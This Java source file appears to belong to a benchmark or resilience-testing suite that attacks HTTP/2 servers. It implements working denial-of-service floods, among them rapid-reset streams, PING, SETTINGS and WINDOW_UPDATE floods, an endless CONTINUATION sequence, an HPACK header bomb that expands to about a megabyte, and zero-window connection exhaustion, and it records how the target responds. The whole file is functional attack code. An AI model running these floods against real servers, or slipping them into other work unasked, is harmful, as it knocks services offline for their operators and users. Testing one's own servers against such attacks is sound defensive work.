package io.usher.benchmarks.hostile;

import static io.usher.benchmarks.hostile.Http2.CONTINUATION;
import static io.usher.benchmarks.hostile.Http2.DATA;
import static io.usher.benchmarks.hostile.Http2.END_HEADERS;
import static io.usher.benchmarks.hostile.Http2.END_STREAM;
import static io.usher.benchmarks.hostile.Http2.HEADERS;
import static io.usher.benchmarks.hostile.Http2.PING;
import static io.usher.benchmarks.hostile.Http2.PRIORITY;
import static io.usher.benchmarks.hostile.Http2.RST_STREAM;
import static io.usher.benchmarks.hostile.Http2.SETTINGS;
import static io.usher.benchmarks.hostile.Http2.WINDOW_UPDATE;
import static io.usher.benchmarks.hostile.Http2.frame;
import static io.usher.benchmarks.hostile.Http2.join;
import static io.usher.benchmarks.hostile.Http2.request;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.function.IntFunction;

/** Floods over HTTP/2, and windows of zero. */
final class Http2Attacks {

  private static final int WINDOW = 65_535;
  private static final int WHOLE = END_STREAM | END_HEADERS;

  private Http2Attacks() {}

  static List<Attack> all() {
    var attacks = new ArrayList<Attack>();
    attacks.add(
        flood(
            "HTTP/2: streams that are reset at once",
            i ->
                join(
                    request(2 * i + 1, true, Target.PATH, END_HEADERS),
                    frame(RST_STREAM, 0, 2 * i + 1, new byte[] {0, 0, 0, 8}))));
    attacks.add(flood("HTTP/2: streams", i -> request(2 * i + 1, false, "/none", WHOLE)));
    attacks.add(flood("HTTP/2: PING", i -> frame(PING, 0, 0, new byte[8])));
    attacks.add(flood("HTTP/2: SETTINGS", i -> frame(SETTINGS, 0, 0, new byte[0])));
    attacks.add(
        flood("HTTP/2: PRIORITY", i -> frame(PRIORITY, 0, 2 * i + 3, new byte[] {0, 0, 0, 1, 7})));
    attacks.add(
        flood("HTTP/2: WINDOW_UPDATE", i -> frame(WINDOW_UPDATE, 0, 0, new byte[] {0, 0, 0, 1})));
    attacks.add(flood("HTTP/2: unknown frames", i -> frame(0xBE, 0, 0, new byte[100])));
    attacks.add(
        flood(
            "HTTP/2: CONTINUATION without end",
            i ->
                i == 0
                    ? frame(HEADERS, 0, 1, Http2.headers(true, Target.PATH))
                    : frame(CONTINUATION, 0, 1, literal("a", 1000))));
    attacks.add(
        flood(
            "HTTP/2: empty DATA",
            i ->
                i == 0
                    ? request(1, true, Target.PATH, END_HEADERS)
                    : frame(DATA, 0, 1, new byte[0])));
    attacks.add(
        flood(
            "HTTP/2: DATA of a byte",
            i ->
                i == 0
                    ? request(1, true, Target.PATH, END_HEADERS)
                    : frame(DATA, 0, 1, new byte[] {' '})));
    attacks.add(
        flood(
            "HTTP/2: headers that unpack to a megabyte",
            i -> frame(HEADERS, WHOLE, 2 * i + 1, bomb())));
    for (String path : List.of("/livez", "/readyz", "/none", Target.PATH)) {
      attacks.add(
          new Attack(
              "HTTP/2: window of 0 at " + path, 4, (t, o, end) -> windowOfZero(t, o, end, path)));
    }
    return attacks;
  }

  /** Sends one frame after another until the server has enough of it. */
  private static Attack flood(String name, IntFunction<byte[]> frames) {
    return Attack.of(
        name,
        (target, outcomes, end) -> {
          try (var client = Client.tls(target, "h2")) {
            client.send(Http2.begin(WINDOW));
            try {
              for (int i = 0; i < 100_000 && System.nanoTime() < end; i += 16) {
                var burst = new byte[16][];
                for (int j = 0; j < burst.length; j++) {
                  burst[j] = frames.apply(i + j);
                }
                client.send(join(burst));
              }
              outcomes.saw("taken");
            } catch (IOException e) {
              outcomes.saw(lastWords(client));
            }
          }
        });
  }

  private static String lastWords(Client client) {
    try {
      return client.http2End();
    } catch (IOException e) {
      return "closed";
    }
  }

  /** Connections by the dozen, on each as many streams as there may be, of which none is read. */
  private static void windowOfZero(Target target, Outcomes outcomes, long end, String path)
      throws IOException {
    var clients = new ArrayList<Client>();
    boolean review = path.equals(Target.PATH);
    byte[] body = Reviews.good().getBytes(StandardCharsets.UTF_8);
    try {
      while (clients.size() < 100 && System.nanoTime() < end) {
        var client = Client.tlsThatReadsNothing(target, "h2");
        clients.add(client.send(Http2.begin(0)));
        var streams = new ArrayList<byte[]>();
        for (int stream = 1; stream < 256; stream += 2) {
          streams.add(request(stream, review, path, review ? END_HEADERS : WHOLE));
          if (review) {
            streams.add(frame(DATA, END_STREAM, stream, body));
          }
        }
        client.send(join(streams.toArray(byte[][]::new)));
      }
      outcomes.saw("round of " + clients.size() + " connections");
      if (!clients.isEmpty() && System.nanoTime() < end) {
        outcomes.saw(lastWords(clients.get(0)));
      }
    } finally {
      clients.forEach(Client::close);
    }
  }

  private static byte[] literal(String name, int length) {
    byte[] value = new byte[length];
    java.util.Arrays.fill(value, (byte) 'a');
    byte[] head =
        new byte[] {0, 1, (byte) name.charAt(0), 0x7F, (byte) (length - 127 & 0x7F | 0x80), 6};
    head[5] = (byte) (length - 127 >> 7);
    return join(head, value);
  }

  /** A header that goes into the table, and 10,000 references of a byte to it. */
  private static byte[] bomb() {
    byte[] value = literal("a", 1000);
    value[0] = 0x40;
    byte[] references = new byte[10_000];
    java.util.Arrays.fill(references, (byte) 0xBE);
    return join(Http2.headers(false, "/none"), value, references);
  }
}
